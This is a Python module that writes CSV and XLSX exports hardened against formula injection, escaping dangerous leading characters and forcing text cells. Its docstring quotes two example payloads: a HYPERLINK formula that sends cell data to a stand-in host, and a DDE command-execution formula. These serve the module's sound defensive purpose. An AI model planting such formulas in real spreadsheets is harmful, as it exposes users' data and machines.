"""The one writer for every CSV and XLSX file Gongkai produces, safe against formula (CSV) injection.

Text in an export may come from anyone (a public application's name or title, an uploaded file's name), and a
spreadsheet program runs a cell such as ``=HYPERLINK("http://x/?"&A2,"x")`` or ``=cmd|' /C calc'!A0`` as a
formula. So:

- XLSX (``SafeWorkbook`` / ``SafeSheet`` / ``write_xlsx``): every ``str`` is stored as a text cell
  (``data_type == "s"``, never ``<f>``); one that begins with a dangerous character also gets Excel's quote
  prefix, so editing the cell in Excel keeps it text. The value itself is unchanged.
- CSV (``write_csv``): a text cell that begins with ``= + - @`` TAB or CR gets a leading ``'`` (OWASP's CSV
  injection rule), and every text cell is quoted (a ``;`` inside a cell cannot start a new cell in a locale
  whose list separator is ``;``). Numbers (int, float, Decimal) stay numbers: -5 is written as -5. A *string*
  such as "-5" is escaped like any other text: a caller with a numeric column passes numbers, not strings.
- Reading back (``gongkai.core.tables``): ``unescape_cell`` removes that ``'`` again, only when the rest
  begins with a dangerous character, so export → edit in Excel → import gives the same values.

No other module may call ``csv.writer`` or ``openpyxl.Workbook``: a test (core/tests/test_exports.py) fails
if one does.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import zipfile
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl is imported only when an XLSX is written
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

DANGEROUS_LEADING = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
# Control characters an XLSX cannot hold (openpyxl raises on them); TAB, LF and CR are allowed.
_ILLEGAL_XML = re.compile(r"[\000-\010\013\014\016-\037]")


def is_dangerous(text: str) -> bool:
    """True if a spreadsheet program could read ``text`` as a formula (or a DDE call)."""
    return text.startswith(DANGEROUS_LEADING)


def safe_cell(value: Any) -> Any:
    """``value`` made safe for a CSV cell: dangerous text gets a leading ``'``; anything else is unchanged.

    Text that already begins with ``'`` before a dangerous character ("'=1") gets one more, so that
    ``unescape_cell(safe_cell(x)) == x`` for every string.
    """
    if isinstance(value, str) and is_dangerous(value.lstrip(ESCAPE)):
        return ESCAPE + value
    return value


def unescape_cell(value: Any) -> Any:
    """Undo ``safe_cell`` on a value read from an uploaded file: drop one ``'`` before a dangerous character."""
    if isinstance(value, str) and value.startswith(ESCAPE) and is_dangerous(value.lstrip(ESCAPE)):
        return value[1:]
    return value


def _csv_field(value: Any) -> str | int | float | Decimal:
    """A CSV field: numbers as numbers (left unquoted), everything else as escaped text (quoted)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, dt.date):
        return value.isoformat()
    return safe_cell(str(value))


def write_csv(rows: Iterable[Sequence[Any]], *, header: Sequence[str]) -> bytes:
    """A CSV for Excel in China: UTF-8 with BOM, CRLF lines, text quoted and escaped, numbers as numbers."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([_csv_field(h) for h in header])
    for row in rows:
        writer.writerow([_csv_field(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


class SafeSheet:
    """A worksheet whose values are written only through ``append``/``set``: text is always a text cell.

    ``ws`` is the openpyxl worksheet, for styling only (widths, fonts, merges, freeze panes).
    """

    def __init__(self, ws: Worksheet) -> None:
        self.ws = ws
        self._next_row = 1  # below the lowest row written so far

    def append(self, values: Iterable[Any]) -> list[Cell]:
        """Write ``values`` into the row below the lowest one written so far; returns its cells (for styling)."""
        row = self._next_row
        self._next_row += 1  # an empty row still takes its place
        return [self.set(row, column, value) for column, value in enumerate(values, start=1)]

    def set(self, row: int, column: int, value: Any) -> Cell:
        """Write one cell (1-based ``row`` and ``column``); returns it."""
        self._next_row = max(self._next_row, row + 1)
        cell = self.ws.cell(row=row, column=column)
        if isinstance(value, str):
            value = _ILLEGAL_XML.sub("", value)
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error; both stay text
            if is_dangerous(value):
                cell.quotePrefix = True  # editing the cell in Excel keeps it text
        return cell


class SafeWorkbook:
    """A new XLSX workbook with no sheet; add sheets with ``sheet(title)``, then ``to_bytes()``."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self.book = Workbook()
        self.book.remove(self.book.worksheets[0])

    def sheet(self, title: str) -> SafeSheet:
        return SafeSheet(self.book.create_sheet(title))

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.book.save(buffer)
        return buffer.getvalue()


def write_xlsx(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
    """A plain XLSX: for each (title, header, rows), a sheet with the header on row 1, then the rows."""
    book = SafeWorkbook()
    for title, header, rows in sheets:
        sheet = book.sheet(title)
        sheet.append(header)
        for row in rows:
            sheet.append(row)
    return book.to_bytes()


def write_manifest_zip(manifest: dict[str, Any], files: Sequence[tuple[str, str, bytes]]) -> bytes:
    """A zip of ``files`` (path, title, content) with ``manifest.json``: ``manifest`` and, under ``files``,
    each file's path, title, size and SHA-256 (archive packages, evidence bundles)."""
    manifest = {**manifest, "files": [{"path": p, "title": t, "size": len(b), "sha256": hashlib.sha256(b).hexdigest()}
                                      for p, t, b in files]}  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("manifest.json", json.dumps(manifest, ensure_ascii=False, indent=2))
        for path, _title, data in files:
            zf.writestr(path, data)
    return out.getvalue()
